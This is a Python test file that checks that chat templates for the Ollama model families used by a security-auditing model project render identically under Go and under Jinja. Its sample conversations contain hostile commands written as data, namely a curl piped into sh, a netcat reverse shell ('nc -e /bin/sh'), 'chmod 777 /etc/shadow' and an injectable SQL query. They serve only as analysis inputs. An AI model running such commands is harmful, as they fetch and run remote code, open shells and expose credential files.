"""Template proof: every chat family's Ollama TEMPLATE, run by Go's own text/template fed as Ollama
feeds it, gives exactly the text of the family's real Jinja chat template under transformers'
apply_chat_template(add_generation_prompt=True). Also: the system prompts match the report format.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from fwyy_ollama.chat_families import FAMILIES, get_family
from fwyy_ollama.modelfile import parse_modelfile, render_modelfile
from fwyy_ollama.profiles import load_profile, shipped_profiles
from fwyy_ollama.prompts import LABEL_NAMES, SECTION_HEADINGS, system_prompt

GOTMPL_SRC = Path(__file__).resolve().parent / "gotmpl"


@pytest.fixture(scope="session")
def gotmpl(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """tests/gotmpl built once per session with the machine's Go (Debian golang-go)."""
    go = shutil.which("go")
    assert go, "Go is needed for the template proof: apt-get install golang-go"
    out = tmp_path_factory.mktemp("gotmpl") / "gotmpl"
    env = dict(os.environ, GOFLAGS="-mod=mod", GOPROXY="off", CGO_ENABLED="0")
    env.setdefault("GOCACHE", str(tmp_path_factory.mktemp("gocache")))
    subprocess.run([go, "build", "-o", str(out), "."], cwd=GOTMPL_SRC, env=env, check=True)
    return out


def run_go(binary: Path, cases: list[dict]) -> list[dict]:
    proc = subprocess.run([str(binary)], input=json.dumps(cases), capture_output=True, text=True, check=True)
    return json.loads(proc.stdout)


def hf_tokenizer(family_name: str):  # type: ignore[no-untyped-def]
    """A real transformers tokenizer carrying the family's special tokens and Jinja chat template."""
    from tokenizers import Tokenizer
    from tokenizers.models import WordLevel
    from transformers import PreTrainedTokenizerFast

    fam = get_family(family_name)
    specials = ["<unk>"] + [t for t in (fam.bos_token, fam.eos_token) if t]
    tok = Tokenizer(WordLevel({s: i for i, s in enumerate(specials)}, unk_token="<unk>"))
    return PreTrainedTokenizerFast(
        tokenizer_object=tok,
        unk_token="<unk>",
        bos_token=fam.bos_token or None,
        eos_token=fam.eos_token,
        chat_template=fam.hf_chat_template,
    )


SYS = "You audit configs."
CONVERSATIONS: dict[str, list[dict[str, str]]] = {
    "user only": [{"role": "user", "content": "Is `chmod 777 /etc/shadow` safe?"}],
    "system + user": [
        {"role": "system", "content": SYS},
        {"role": "user", "content": "Review: PermitRootLogin yes"},
    ],
    "system, two turns": [
        {"role": "system", "content": SYS},
        {"role": "user", "content": "Check: curl http://x.sh | sh"},
        {"role": "assistant", "content": "Analysis: pipes a remote script into a shell.\nLabel: high"},
        {"role": "user", "content": "And with https?"},
    ],
    "no system, three turns": [
        {"role": "user", "content": "a"},
        {"role": "assistant", "content": "b"},
        {"role": "user", "content": "c"},
        {"role": "assistant", "content": "d"},
        {"role": "user", "content": "e"},
    ],
    "markup in content": [
        {"role": "system", "content": 'multi\nline "system" {{ .System }} {% raw %}'},
        {"role": "user", "content": '日志：\nFailed password for root from 10.0.0.1\n{{ range }} """ [INST]'},
    ],
    "real zh prompt": [
        {"role": "system", "content": system_prompt("zh")},
        {"role": "user", "content": "分析以下命令：\nnc -e /bin/sh 10.0.0.1 4444"},
    ],
    "real en prompt": [
        {"role": "system", "content": system_prompt("en")},
        {"role": "user", "content": "Analyze: SELECT * FROM users WHERE id = '$id'"},
    ],
}


# Contents with the whitespace people paste (a trailing newline, indented code): the Llama 3 Jinja
# trims every message and Mistral's the assistant's; Go cannot, so fwyy sends them trimmed.
PADDED: dict[str, list[dict[str, str]]] = {
    "padded, system + user": [
        {"role": "system", "content": "  You audit configs.\n"},
        {"role": "user", "content": "\n    PermitRootLogin yes\n\n"},
    ],
    "padded, two turns": [
        {"role": "system", "content": SYS + "\n"},
        {"role": "user", "content": " curl http://x.sh | sh \t"},
        {"role": "assistant", "content": "\nAnalysis: pipes a script into a shell.\nLabel: high\n\n"},
        {"role": "user", "content": "\u3000And with https?\n"},  # an ideographic space, trimmed too
    ],
}


def _prove(gotmpl: Path, family_name: str, template: str, conversations: dict | None = None) -> None:
    """Go (as Ollama feeds it, contents prepared as fwyy sends them) == the family's Jinja."""
    fam = get_family(family_name)
    tok = hf_tokenizer(family_name)
    conversations = conversations or CONVERSATIONS
    names = list(conversations)
    cases = [{"template": template, "messages": fam.prepare_messages(conversations[n])} for n in names]
    results = run_go(gotmpl, cases)
    for name, res in zip(names, results, strict=True):
        assert not res.get("error"), f"{family_name} / {name}: Go template failed: {res['error']}"
        want = tok.apply_chat_template(conversations[name], tokenize=False, add_generation_prompt=True)
        # The Jinja text starts with BOS; Ollama's template leaves it to llama.cpp's tokenizer.
        assert want.startswith(fam.bos_token)
        got = fam.bos_token + res["output"]
        assert got == want, f"{family_name} / {name}:\n go:    {got!r}\n jinja: {want!r}"


@pytest.mark.parametrize("family_name", FAMILIES)
def test_family_template_matches_jinja_under_go(gotmpl: Path, family_name: str) -> None:
    _prove(gotmpl, family_name, get_family(family_name).ollama_template)


@pytest.mark.parametrize("family_name", FAMILIES)
def test_padded_contents_render_alike_once_prepared(gotmpl: Path, family_name: str) -> None:
    _prove(gotmpl, family_name, get_family(family_name).ollama_template, PADDED)


@pytest.mark.parametrize("family_name", ["llama3", "mistral"])
def test_padded_contents_differ_without_preparing(gotmpl: Path, family_name: str) -> None:
    """The proof has teeth: sent as typed, padded contents render differently under Go."""
    fam = get_family(family_name)
    tok = hf_tokenizer(family_name)
    msgs = PADDED["padded, two turns"]
    (res,) = run_go(gotmpl, [{"template": fam.ollama_template, "messages": msgs}])
    want = tok.apply_chat_template(msgs, tokenize=False, add_generation_prompt=True)
    assert fam.bos_token + res["output"] != want


@pytest.mark.parametrize("family_name", FAMILIES)
def test_ollama_runs_the_proven_template(gotmpl: Path, family_name: str) -> None:
    """Both templates Ollama might run for a fwyy GGUF give the proven text.

    Ollama 0.30.11+ runs the GGUF's tokenizer.chat_template natively (llama.cpp's Jinja) when it has
    more capabilities than the Modelfile TEMPLATE, and always when the daemon has
    OLLAMA_GO_TEMPLATE=0; else the Go TEMPLATE. fwyy's GGUFs carry the family's Jinja: it is not
    preferred (no tools, no thinking), and where it does run (OLLAMA_GO_TEMPLATE=0) it renders what
    the Go TEMPLATE renders: the same conversations under jinja2 and under Go.
    """
    from fwyy_ollama.ollama_api import jinja_capabilities, ollama_prefers_gguf_template

    fam = get_family(family_name)
    assert jinja_capabilities(fam.hf_chat_template) == set()
    assert not ollama_prefers_gguf_template(fam.hf_chat_template, fam.ollama_template)
    _prove(gotmpl, family_name, fam.ollama_template, CONVERSATIONS | PADDED)


def test_ollama_preference_rule_has_teeth() -> None:
    """The port of server/images.go: tool or thinking support in the Jinja wins over a plain TEMPLATE."""
    from fwyy_ollama.ollama_api import ollama_prefers_gguf_template

    go = get_family("mistral").ollama_template
    with_tools = "{% if tools %}[AVAILABLE_TOOLS]{% endif %}" + get_family("mistral").hf_chat_template
    thinking = "<think>{{ m }}</think>"
    assert ollama_prefers_gguf_template(with_tools, go)
    assert ollama_prefers_gguf_template(thinking, go)
    # a TEMPLATE with tools and tool results keeps the turn against a Jinja that only has tools
    go_tools = '{{ if .Tools }}{{ .Tools }}{{ end }}{{ range .Messages }}{{ .ToolCalls }}{{ if eq .Role "tool" }}x{{ end }}{{ end }}'
    assert not ollama_prefers_gguf_template(with_tools, go_tools)
    assert not ollama_prefers_gguf_template("", go)


def test_mistral_template_keeps_upstream_checks() -> None:
    from jinja2.exceptions import TemplateError

    tok = hf_tokenizer("mistral")
    with pytest.raises(TemplateError, match="must alternate"):
        tok.apply_chat_template(
            [{"role": "user", "content": "a"}, {"role": "user", "content": "b"}], tokenize=False
        )
    with pytest.raises(TemplateError, match="Only user and assistant roles"):
        tok.apply_chat_template(
            [
                {"role": "user", "content": "a"},
                {"role": "tool", "content": "b"},
                {"role": "user", "content": "c"},
            ],
            tokenize=False,
        )


@pytest.mark.parametrize("profile_name", sorted(shipped_profiles()))
def test_rendered_modelfile_template_matches_jinja(gotmpl: Path, profile_name: str) -> None:
    """The TEMPLATE as it reads back from the rendered Modelfile (quoting included) is the proven one."""
    profile = load_profile(profile_name)
    mf = parse_modelfile(render_modelfile(profile))
    assert mf.template is not None
    _prove(gotmpl, profile.chat_family, mf.template)


def test_go_harness_feeds_data_as_ollama(gotmpl: Path) -> None:
    """.System joins every system message, .Messages keeps them, same-role neighbours merge."""
    tmpl = "S=[{{ .System }}]{{ range .Messages }}|{{ .Role }}:{{ .Content }}{{ end }}|R=[{{ .Response }}]"
    msgs = [
        {"role": "system", "content": "one"},
        {"role": "system", "content": "two"},
        {"role": "user", "content": "u1"},
        {"role": "user", "content": "u2"},
    ]
    (res,) = run_go(gotmpl, [{"template": tmpl, "messages": msgs}])
    assert res["output"] == "S=[one\n\ntwo]|system:one\n\ntwo|user:u1\n\nu2|R=[]"


def test_go_harness_feeds_tools_as_ollama(gotmpl: Path) -> None:
    """Tools and tool calls in Ollama's template shapes: properties and arguments as Go maps (ranged
    in sorted key order), JSON values as encoding/json decodes them; the tool-call tag as Ollama reads it."""
    tmpl = (
        "{{ range .Tools }}{{ .Function.Name }}:{{ range $k, $v := .Function.Parameters.Properties }}{{ $k }}={{ $v.Type }},{{ end }}"
        "{{ end }}|{{ range .Messages }}{{ if .ToolCalls }}{{ range .ToolCalls }}<call>{{ range $k, $v := .Function.Arguments }}"
        '{{ $k }}:{{ printf "%T" $v }};{{ end }}{{ end }}{{ end }}{{ .Role }}{{ end }}'
    )
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {
        "z": {"type": "string"}, "a": {"type": ["integer", "null"]}}}}}  # fmt: skip
    call = {"function": {"name": "f", "arguments": {"z": [1], "a": {"b": 1}, "m": 2, "s": "x", "n": None}}}
    msgs = [{"role": "user", "content": "q"}, {"role": "assistant", "content": "", "tool_calls": [call]}]
    (res,) = run_go(gotmpl, [{"template": tmpl, "messages": msgs, "tools": [tool]}])
    assert res["output"] == (
        "f:a=[integer null],z=string,|user<call>a:map[string]interface {};m:float64;n:<nil>;s:string;z:[]interface {};assistant"
    )
    assert res["tool_tag"] == "<call>"
    (res,) = run_go(gotmpl, [{"template": get_family("llama3").ollama_template, "messages": msgs[:1]}])
    assert res["tool_tag"] == "{"  # no {{ if .ToolCalls }}: Ollama parses any JSON object as a call


def test_go_harness_reports_broken_templates(gotmpl: Path) -> None:
    (res,) = run_go(gotmpl, [{"template": "{{ range .Messages }}x", "messages": []}])
    assert "parse" in res["error"]


def test_mistral_system_goes_before_last_user_message_only(gotmpl: Path) -> None:
    (res,) = run_go(
        gotmpl,
        [{"template": get_family("mistral").ollama_template, "messages": CONVERSATIONS["system, two turns"]}],
    )
    out = res["output"]
    assert out.count(SYS) == 1 and out.index(SYS) > out.index("[/INST]")


def test_wrong_template_is_caught(gotmpl: Path) -> None:
    """The proof has teeth: the llama3 TEMPLATE does not pass as chatml."""
    with pytest.raises(AssertionError):
        _prove(gotmpl, "chatml", get_family("llama3").ollama_template)


def test_families_stop_on_their_turn_markers() -> None:
    for name in FAMILIES:
        fam = get_family(name)
        assert fam.eos_token in fam.stop or fam.eos_token == "</s>"
        # The end-of-turn marker the Jinja template writes after an assistant message is a stop string.
        tok = hf_tokenizer(name)
        text = tok.apply_chat_template(
            [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}], tokenize=False
        )
        after_answer = text.split("a", 1)[1] if name != "chatml" else text.rsplit("a", 1)[1]
        assert any(s in after_answer for s in fam.stop), (name, after_answer)


def test_unknown_family_is_a_clear_error() -> None:
    from fwyy_ollama.errors import FwyyError

    with pytest.raises(FwyyError, match="chatml, llama3, mistral"):
        get_family("alpaca")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_system_prompt_names_the_report_format(lang: str) -> None:
    """The prompt's headings and labels are the ones report.render_report writes."""
    from fwyy_ollama.report import HEADINGS, Label

    prompt = system_prompt(lang)
    assert (
        tuple(HEADINGS[lang][p] for p in ("analysis", "label", "risk", "solution")) == SECTION_HEADINGS[lang]
    )
    colon = "：" if lang == "zh" else ":"
    for heading in SECTION_HEADINGS[lang]:
        assert f"\n{heading}{colon}" in prompt
    names = [lab.zh if lang == "zh" else lab.value for lab in Label]
    assert tuple(names) == LABEL_NAMES[lang]
    assert all(n in prompt for n in names)
    # Short, for 512-token training sequences (SmolLM2 spends ~130 tokens on the English one).
    assert len(prompt) < (260 if lang == "zh" else 600)
    # It refuses attack tooling.
    assert ("不编写攻击工具" in prompt) if lang == "zh" else ("write attack tools" in prompt)


def test_system_prompt_rejects_unknown_language() -> None:
    from fwyy_ollama.errors import FwyyError

    with pytest.raises(FwyyError):
        system_prompt("fr")


def _gguf_template(path: Path) -> str:
    from gguf import GGUFReader

    field = GGUFReader(path).get_field("tokenizer.chat_template")
    return bytes(field.parts[field.data[0]]).decode("utf-8")


def test_exported_gguf_carries_the_family_template(tiny_llama_dir: Path, copy_of, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """What Ollama may run natively is the family's Jinja, not the base's own (SmolLM2's here).

    A build passes its family's template; an adapter trained by fwyy names its family in
    fwyy-adapter.json, and `fwyy export --adapter` takes the template from there.
    """
    import json

    from fwyy_ollama.export import export_gguf

    fam = get_family("mistral")
    base_own = _gguf_template(
        export_gguf(model_dir=tiny_llama_dir, out=tmp_path / "a.gguf", quant="f16").gguf
    )
    assert base_own != fam.hf_chat_template  # the base ships another template
    out = export_gguf(model_dir=tiny_llama_dir, out=tmp_path / "b.gguf", quant="f16",
                      chat_template=fam.hf_chat_template).gguf  # fmt: skip
    assert _gguf_template(out) == fam.hf_chat_template
    # an adapter folder that names its family: the export writes that family's template
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    model = get_peft_model(
        AutoModelForCausalLM.from_pretrained(tiny_llama_dir), LoraConfig(r=2, target_modules=["q_proj"])
    )
    adapter = tmp_path / "adapter"
    model.save_pretrained(adapter)
    config = json.loads((adapter / "adapter_config.json").read_text())
    config["base_model_name_or_path"] = str(tiny_llama_dir)
    (adapter / "adapter_config.json").write_text(json.dumps(config))
    (adapter / "fwyy-adapter.json").write_text(json.dumps({"chat_family": "chatml"}))
    out = export_gguf(
        adapter_dir=adapter, model_dir=tiny_llama_dir, out=tmp_path / "c.gguf", quant="f16"
    ).gguf
    assert _gguf_template(out) == get_family("chatml").hf_chat_template != base_own
